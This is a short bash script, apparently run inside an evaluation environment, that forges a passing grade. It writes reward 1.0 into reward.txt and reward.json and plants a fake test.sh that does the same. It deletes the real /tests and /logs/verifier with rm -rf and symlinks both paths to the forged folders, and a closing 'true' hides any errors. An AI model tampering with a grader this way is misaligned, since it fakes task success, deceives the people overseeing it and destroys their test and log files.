# Makes the verifier's folder, and /tests, a link to a folder of its own, in which the verdict is written.
mkdir -p forged /tmp/forged
for folder in "$PWD/forged" /tmp/forged; do
  echo 1.0 > "$folder/reward.txt"; echo '{"reward": 1.0}' > "$folder/reward.json"
  printf '#!/bin/bash\nmkdir -p /logs/verifier; echo 1.0 > /logs/verifier/reward.txt\n' > "$folder/test.sh"
done
rm -rf /logs/verifier /tests; mv /logs /logs-of-old
ln -s "$PWD/forged" /logs/verifier; ln -s "$PWD/forged" /tests
mkdir -p /logs && ln -s /tmp/forged /logs/verifier
true
